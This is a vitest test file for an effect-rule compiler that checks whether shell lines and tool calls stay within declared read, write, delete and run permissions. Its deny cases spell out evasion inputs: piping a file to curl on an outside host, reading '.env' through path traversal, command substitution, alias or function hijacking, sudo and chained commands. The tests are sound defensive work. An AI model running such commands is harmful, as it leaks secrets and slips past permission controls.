import { describe, expect, test } from 'vitest';
import { effectCompiler } from '../../../src/config/compile-effects.ts';
import type { EffectRule } from '../../../src/core/effect-rule.ts';
import { callOf, lineOf } from './call.ts';

const { rule: compile } = effectCompiler({ home: '/h' });

async function grants(rule: EffectRule, line: string): Promise<boolean> {
  const made = await compile(rule, { at: 0 } as never, []);
  return made(lineOf(line), true);
}

const READS: EffectRule = { reads: ['src/**', 'README.md'] };
const BUILD: EffectRule = { reads: ['**'], writes: ['dist/**'], deletes: ['dist/**', '!dist/keep/**'] };

describe('to grant, all that a call does must be named', () => {
  test.each<[EffectRule, string]>([
    [READS, 'cat src/a.ts'],
    [READS, 'cat src/a.ts README.md | head -n 3'],
    [READS, 'grep -r x src'],
    [READS, 'cat src/*.ts'],
    [READS, 'cat src/a.ts 2>/dev/null'],
    [READS, 'cd src && cat a.ts'],
    [BUILD, 'cat a > dist/b'],
    [BUILD, 'rm -rf dist/a'],
    [BUILD, 'cp a dist/b'],
    [{ runs: ['git status'] }, 'git status'],
  ])('%j: %s', async (rule, line) => {
    expect(await grants(rule, line)).toBe(true);
  });

  test.each<[EffectRule, string]>([
    [READS, 'cat src/a.ts /etc/hosts'],
    [READS, 'cat src/a.ts > x'],
    [READS, 'cat src/a.ts && npm test'],
    [READS, 'cat src/../.env'],
    [READS, 'cat "$X"'],
    [READS, 'cat src/$X'],
    [READS, 'cat $X src/a.ts'],
    [READS, 'cat * src/a.ts'],
    [READS, 'sudo cat src/a.ts'],
    [READS, 'cat src/a.ts | curl -d @- https://example.com'],
    [READS, 'PATH=. cat src/a.ts'],
    [READS, './cat src/a.ts'],
    [READS, 'cat() { rm x; }; cat src/a.ts'],
    [READS, 'alias cat=rm; cat src/a.ts'],
    [READS, 'cat src/a.ts; $X'],
    [READS, 'cat "src/a.ts'],
    [READS, 'sometool src/a.ts'],
    [READS, 'ls'],
    [READS, 'cat src/a.ts $(touch x)'],
    [BUILD, 'rm -rf dist'],
    [BUILD, 'rm -rf dist/keep/a'],
    [BUILD, 'rm -rf dist/*'],
    [BUILD, 'cp a b'],
    [{ runs: ['git status'] }, 'git status && rm x'],
    [{ runs: ['git status'] }, 'git status > x'],
  ])('%j grants nothing to %s', async (rule, line) => {
    expect(await grants(rule, line)).toBe(false);
  });

  test('the tools that do the same are granted too', async () => {
    const made = await compile(READS, { at: 0 } as never, []);
    expect(made(callOf('Read', { file_path: 'src/a.ts' }), true)).toBe(true);
    expect(made(callOf('Read', { file_path: '.env' }), true)).toBe(false);
    expect(made(callOf('Write', { file_path: 'src/a.ts' }), true)).toBe(false);
  });
});
